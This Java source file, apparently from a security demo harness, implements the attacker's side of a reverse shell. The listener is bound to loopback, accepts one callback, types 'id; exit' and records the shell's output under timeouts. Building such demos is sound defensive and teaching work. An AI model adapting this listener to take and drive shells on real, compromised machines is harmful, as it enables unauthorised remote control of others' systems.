package dev.peregrine.demo.driver;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.net.SocketTimeoutException;
import java.nio.charset.StandardCharsets;
import java.util.concurrent.CompletableFuture;

/**
 * The attacker's end of the reverse shell, on loopback: accepts one connection, types {@code id; exit} and keeps
 * what the shell printed. Bounded by timeouts so that a shell that never calls back cannot hang the demo.
 */
public final class ShellListener implements AutoCloseable {

    private static final int TIMEOUT_MILLIS = 10_000;

    private final ServerSocket server;
    private final CompletableFuture<String> transcript = new CompletableFuture<>();

    public ShellListener() throws IOException {
        server = new ServerSocket(0, 1, InetAddress.getLoopbackAddress());
        server.setSoTimeout(TIMEOUT_MILLIS);
        Thread t = new Thread(this::serve, "shell-listener");
        t.setDaemon(true);
        t.start();
    }

    public int port() {
        return server.getLocalPort();
    }

    /** What the shell printed, or a line saying why there is nothing. */
    public String transcript() {
        return transcript.join();
    }

    private void serve() {
        try (Socket shell = server.accept()) {
            shell.setSoTimeout(TIMEOUT_MILLIS);
            shell.getOutputStream().write("id; exit\n".getBytes(StandardCharsets.UTF_8));
            shell.getOutputStream().flush();
            ByteArrayOutputStream got = new ByteArrayOutputStream();
            InputStream in = shell.getInputStream();
            byte[] buf = new byte[4096];
            try {
                for (int n; (n = in.read(buf)) > 0; ) {
                    got.write(buf, 0, n);
                }
            } catch (SocketTimeoutException e) {
                got.write("[timed out]".getBytes(StandardCharsets.UTF_8));
            }
            transcript.complete(got.toString(StandardCharsets.UTF_8));
        } catch (IOException e) {
            transcript.complete("[no connection back: " + e.getMessage() + "]");
        }
    }

    @Override
    public void close() throws IOException {
        server.close();
    }
}
